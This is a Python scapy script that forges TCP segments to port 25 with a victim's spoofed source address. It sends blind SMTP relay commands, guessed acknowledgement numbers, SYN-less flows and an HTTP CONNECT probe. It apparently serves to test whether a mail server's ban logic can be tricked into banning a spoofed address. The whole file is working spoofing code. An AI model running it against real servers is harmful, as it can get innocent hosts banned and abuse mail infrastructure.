#!/usr/bin/python3
"""Forge relay attempts with a victim's source address (scapy): no completed
handshake, guessed sequence numbers, the SMTP commands a relay attempt sends.

  spoof.py VICTIM SERVER ROUNDS SERVER_MAC IFACE

Frames are sent at layer 2 to SERVER_MAC out of IFACE (scapy's own IPv6
neighbour resolution would stall on every packet).

Per round, from a random port: a SYN; then, without waiting for the
SYN-ACK (which goes to the real victim, who answers RST), ACK+PSH segments
carrying EHLO / MAIL / RCPT to a foreign domain with a guessed ack number;
and a bare data segment for a flow that never had a SYN.
"""
import random
import sys

from scapy.all import IP, IPv6, TCP, Ether, Raw, sendp, conf

conf.verb = 0
victim, server = sys.argv[1], sys.argv[2]
rounds, mac, iface = int(sys.argv[3]), sys.argv[4], sys.argv[5]
L3 = IPv6 if ":" in server else IP
# talk before the greeting, a foreign recipient, a relay probe: each would
# be a ban if it came from a verified session
cmds = (b"EHLO victim.test\r\n", b"MAIL FROM:<v@victim.test>\r\n",
        b"RCPT TO:<relay-me@gmail.com>\r\n",
        b"RCPT TO:<relay-me%gmail.com@example.test>\r\n", b"DATA\r\n")
pkts = []
for r in range(rounds):
    sport = random.randint(20000, 60000)
    seq = random.getrandbits(32)
    ip = Ether(dst=mac) / L3(src=victim, dst=server)
    pkts.append(ip / TCP(sport=sport, dport=25, flags="S", seq=seq))
    s = seq + 1
    for guess in (1, random.getrandbits(32)):
        for c in cmds:
            pkts.append(ip / TCP(sport=sport, dport=25, flags="PA", seq=s,
                                 ack=guess) / Raw(c))
            s += len(c)
    # a flow that never had a SYN at all
    pkts.append(ip / TCP(sport=sport + 1, dport=25, flags="PA", seq=seq,
                         ack=seq) / Raw(b"".join(cmds)))
    # non-SMTP bytes (an HTTP proxy probe) on a half-open flow
    pkts.append(ip / TCP(sport=sport + 2, dport=25, flags="S", seq=seq))
    pkts.append(ip / TCP(sport=sport + 2, dport=25, flags="PA", seq=seq + 1,
                         ack=1) / Raw(b"CONNECT gmail.com:25 HTTP/1.0\r\n\r\n"))
# one socket for all of them; the SYN-ACKs go to the real victim anyway
sendp(pkts, iface=iface)
print(f"sent {len(pkts)} forged segments")
